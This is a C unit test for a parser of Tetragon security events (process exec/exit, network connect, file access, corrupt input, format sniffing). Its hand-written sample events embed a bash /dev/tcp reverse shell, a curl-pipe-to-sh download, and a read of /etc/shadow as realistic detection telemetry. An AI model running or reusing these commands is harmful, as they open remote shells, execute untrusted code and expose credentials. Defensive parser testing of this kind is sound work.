/* SPDX-License-Identifier: Apache-2.0 */
/*
 * test-parse-tetragon.c - the Tetragon parser: process_exec in a pod,
 * process_exit, a tcp_connect kprobe (formats.md §8.3), a file kprobe, the
 * camelCase encoding, Sigma taxonomy, corrupt records and sniff scores.
 * No Tetragon sample is in the shared data: samples are hand-written here.
 * Samples are written with ' for " and ^ for \" (see parse-harness.h).
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <tyto/parser.h>

#include "parse-harness.h"
#include "test.h"

extern const struct ty_parser ty_parser_tetragon;

static const char exec_pod[] =
    "{'process_exec':{'process':{'exec_id':'bm9kZS03OjEyMzQ1Njc4OTA6MzMzMw==','pid':3333,'uid':"
    "33,'cwd':'/var/www/html','binary':'/bin/bash','arguments':'-c ^bash -i >& "
    "/dev/tcp/203.0.113.9/4444 0>&1^','flags':'execve clone','start_time':"
    "'2024-03-12T14:05:09.481220114Z','auid':4294967295,'pod':{'namespace':'blog','name':"
    "'wordpress-6d9c-abcde','container':{'id':'containerd://"
    "9f2c3b4a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708','name':'wordpress',"
    "'image':{'id':'docker.io/library/wordpress@sha256:00','name':"
    "'docker.io/library/wordpress:6.4'},'start_time':'2024-03-12T13:00:00Z','pid':40}},"
    "'docker':'9f2c3b4a5d6e7f8','parent_exec_id':'bm9kZS03OjEyMzQ1MDAwMDA6MzMwMA==','tid':"
    "3333},'parent':{'exec_id':'bm9kZS03OjEyMzQ1MDAwMDA6MzMwMA==','pid':3300,'uid':33,"
    "'binary':'/usr/sbin/apache2','arguments':'-DFOREGROUND'}},'node_name':'node-7','time':"
    "'2024-03-12T14:05:09.481220114Z','cluster_name':'prod-eu'}";

static const char exec_pod_json[] =
    "{'ts':'2024-03-12T14:05:09.481220114Z','ts_prec':9,'time_text':"
    "'2024-03-12T14:05:09.481220114Z','category':'process','action':'exec','provider':"
    "'tetragon','correlation_id':'bm9kZS03OjEyMzQ1Njc4OTA6MzMzMw==','host':'node-7',"
    "'k8s_cluster':'prod-eu','k8s_namespace':'blog','k8s_pod':'wordpress-6d9c-abcde','k8s_node':"
    "'node-7',"
    "'container_id':'9f2c3b4a5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708',"
    "'container_name':'wordpress','container_image':'docker.io/library/wordpress:6.4','pid':3333,"
    "'ppid':3300,'process_exe':'/bin/bash','process_cmdline':'/bin/bash -c ^bash -i >& "
    "/dev/tcp/203.0.113.9/4444 0>&1^','process_uid':33,'process_cwd':'/var/www/html',"
    "'parent_exe':'/usr/sbin/apache2','message':'flags=execve clone','format':'tetragon','offset':"
    "0,'line':1}\n";

/* formats.md §8.3 example: curl connecting out (uid 0 is written; proto3
 * encoders may omit it) */
static const char kprobe_connect[] =
    "{'process_kprobe':{'process':{'exec_id':'aXAtMTAtMC0xMi00NToxMjM0NTY3ODkwMTI6MjI0NQ==',"
    "'pid':2245,'cwd':'/tmp','binary':'/usr/bin/curl','arguments':'-s "
    "http://203.0.113.9/x.sh','flags':'execve clone','start_time':"
    "'2024-03-12T14:05:09.481220114Z','auid':1000,'parent_exec_id':"
    "'aXAtMTAtMC0xMi00NToxMjM0NTY3MDAwMDA6MjI0NA==','tid':2245},'parent':{'exec_id':"
    "'aXAtMTAtMC0xMi00NToxMjM0NTY3MDAwMDA6MjI0NA==','pid':2244,'uid':0,'binary':"
    "'/usr/bin/bash','arguments':'-c ^curl -s http://203.0.113.9/x.sh | sh^'},"
    "'function_name':'tcp_connect','args':[{'sock_arg':{'family':'AF_INET','type':"
    "'SOCK_STREAM','protocol':'IPPROTO_TCP','saddr':'10.0.12.45','daddr':'203.0.113.9',"
    "'sport':41822,'dport':443,'cookie':'18446623512187561472'}}],'action':"
    "'KPROBE_ACTION_POST','policy_name':'connect-monitor'},'node_name':'ip-10-0-12-45','time':"
    "'2024-03-12T14:05:09.503118402Z'}";

static const char kprobe_connect_json[] =
    "{'ts':'2024-03-12T14:05:09.503118402Z','ts_prec':9,'time_text':"
    "'2024-03-12T14:05:09.503118402Z','category':'network','action':'connect','provider':"
    "'tetragon','disposition':'KPROBE_ACTION_POST','correlation_id':"
    "'aXAtMTAtMC0xMi00NToxMjM0NTY3ODkwMTI6MjI0NQ==','src_ip':'10.0.12.45','src_port':41822,"
    "'dst_ip':'203.0.113.9','dst_port':443,'net_proto':6,'host':'ip-10-0-12-45','pid':2245,"
    "'ppid':2244,'process_exe':'/usr/bin/curl','process_cmdline':'/usr/bin/curl -s "
    "http://203.0.113.9/x.sh','process_uid':0,'process_cwd':'/tmp','parent_exe':'/usr/bin/bash',"
    "'rule':'connect-monitor','message':'action=KPROBE_ACTION_POST','format':'tetragon',"
    "'offset':0,'line':1}\n";

static void test_fields(void)
{
    struct h h;
    const char *head = "{\"process_exec\":{},\"node_name\":\"n\"}\n";
    h_open(&h, &ty_parser_tetragon, head, strlen(head));
    CHECK_INT(h.ctx.frame.kind, TY_FRAME_LINES);
    CHECK_STR(h.ctx.shape, "JSON lines");

    CHECK_INT(h_feed(&h, exec_pod), TY_OK);
    CHECK_INT(h.n, 1);
    CHECK_STR(h.out.buf, q(&h, exec_pod_json));
    CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);

    h.offset = 0;
    CHECK_INT(h_feed(&h, kprobe_connect), TY_OK);
    CHECK_STR(h.out.buf, q(&h, kprobe_connect_json));
    CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_NETWORK_CONNECTION);

    /* exit with a signal; 64-bit ints as strings */
    CHECK_INT(h_feed(&h, "{'process_exit':{'process':{'exec_id':'eA==','pid':'3333','uid':'33',"
                         "'binary':'/bin/bash'},'parent':{'pid':'3300'},'signal':'SIGKILL',"
                         "'status':0,'time':'2024-03-12T14:06:00Z'},'node_name':'node-7','time':"
                         "'2024-03-12T14:06:00.000000001Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "exit");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_MESSAGE), "status=0 signal=SIGKILL");
    CHECK_INT(ty_event_int(&h.last, TY_F_PID, 0), 3333);
    CHECK_INT(ty_event_int(&h.last, TY_F_PPID, 0), 3300);
    CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, -1), 33);
    CHECK_INT(ty_event_int(&h.last, TY_F_TS, 0), INT64_C(1710252360000000001));
    CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_PROCESS_TERMINATION);

    /* a file kprobe with an enforcement action and a failed return */
    CHECK_INT(h_feed(&h, "{'process_kprobe':{'process':{'pid':9,'uid':1000,'binary':'/usr/bin/"
                         "cat','arguments':'/etc/shadow','docker':'abc123'},'function_name':"
                         "'security_file_permission','args':[{'file_arg':{'path':'/etc/shadow',"
                         "'permission':'-rw-r-----'}},{'int_arg':4}],'return':{'int_arg':-13},"
                         "'action':'KPROBE_ACTION_SIGKILL','policy_name':'sensitive-files'},"
                         "'time':'2024-03-12T14:06:01Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CATEGORY), "file");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_ACTION), "kprobe security_file_permission");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_FILE_PATH), "/etc/shadow");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CONTAINER_ID), "abc123");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_OUTCOME), "failure");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_STATUS_CODE), "-13");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_DISPOSITION), "KPROBE_ACTION_SIGKILL");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_RULE), "sensitive-files");
    CHECK(!ty_event_has(&h.last, TY_F_HOST));
    CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_NONE);

    /* camelCase (tetra getevents / gRPC JSON) */
    CHECK_INT(h_feed(&h, "{'processExec':{'process':{'execId':'Y2M=','pid':7,'binary':"
                         "'/usr/bin/id','pod':{'namespace':'ns','name':'p'}},'parent':{'binary':"
                         "'/bin/sh','pid':6}},'nodeName':'n2','time':'2024-03-12T14:06:02.5Z'}"),
              TY_OK);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_HOST), "n2");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_CORRELATION_ID), "Y2M=");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_PROC_CMDLINE), "/usr/bin/id");
    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_POD), "p");
    CHECK_INT(ty_event_int(&h.last, TY_F_PROC_UID, -1), 0); /* omitted zero */
    CHECK_INT(ty_event_int(&h.last, TY_F_TS_PREC, 0), 1);
    CHECK_SPAN(ty_event_str(&h.last, TY_F_K8S_NODE), "n2");
    CHECK(!ty_event_has(&h.last, TY_F_MESSAGE)); /* no flags */
    CHECK_INT(ty_parser_tetragon.taxonomy(&h.last), TY_SCAT_PROCESS_CREATION);
    h_close(&h);
}

static void test_corrupt(void)
{
    struct h h;
    const char *head = "{}";
    h_open(&h, &ty_parser_tetragon, head, strlen(head));
    CHECK_INT(h_feed(&h, "{'process_exec':{'process':{}},'node_name':'n'}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "time") != NULL);
    CHECK_INT(h_feed(&h, "{'process_exec':{},'time':'12:00'}"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, "{'process_exec':'x','time':'2024-03-12T14:06:02Z'}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "not an object") != NULL);
    CHECK_INT(h_feed(&h, "{'node_name':'n','time':'2024-03-12T14:06:02Z'}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "process_*") != NULL);
    CHECK_INT(h_feed(&h, "{'process_exec':{,'time':'2024-03-12T14:06:02Z'}"), TY_ECORRUPT);
    CHECK(strstr(h.err.msg, "not JSON") != NULL && strstr(h.err.msg, "offset") != NULL);
    CHECK_INT(h_feed(&h, "[1,2]"), TY_ECORRUPT);
    CHECK_INT(h_feed(&h, ""), TY_SKIP);
    h_close(&h);

    /* a stream: two events, one bad line */
    const char *stream = "{\"process_exec\":{\"process\":{\"pid\":1,\"binary\":\"/a\"}},"
                         "\"node_name\":\"n\",\"time\":\"2024-03-12T14:06:02Z\"}\n"
                         "garbage\n"
                         "{\"process_exit\":{\"process\":{\"pid\":1,\"binary\":\"/a\"}},"
                         "\"node_name\":\"n\",\"time\":\"2024-03-12T14:06:03Z\"}\n";
    struct run_counts c = h_run(&h, &ty_parser_tetragon, stream);
    CHECK_INT(c.rec, 3);
    CHECK_INT(c.ev, 2);
    CHECK_INT(c.bad, 1);
    h_close(&h);
}

static void test_sniff(void)
{
    const struct ty_parser *p = NULL;
    struct ty_err err;
    const char *s = q(NULL, exec_pod);
    CHECK_INT(ty_parser_tetragon.sniff(ty_str_cstr(s)), 95);
    CHECK_INT(ty_parser_sniff(ty_str_cstr(s), &p, &err), 0);
    CHECK(p == &ty_parser_tetragon);
    CHECK_INT(ty_parser_tetragon.sniff(TY_STR_LIT("{\"processExec\":{\"process\":{\"execId\":"
                                                  "\"x\"}},\"nodeName\":\"n\"}")),
              95);
    CHECK_INT(ty_parser_tetragon.sniff(TY_STR_LIT(
                  "{\"eventVersion\":\"1.08\",\"eventSource\":\"ec2.amazonaws.com\"}")),
              0);
    CHECK_INT(ty_parser_tetragon.sniff(TY_STR_LIT("{\"kind\":\"Event\",\"auditID\":\"a\","
                                                  "\"verb\":\"get\"}")),
              0);
    CHECK_INT(ty_parser_tetragon.sniff(TY_STR_LIT("process_exec node_name\n")), 0);
}

void test_parse_tetragon(void);
void test_parse_tetragon(void)
{
    test_fields();
    test_corrupt();
    test_sniff();
    q_release();
}
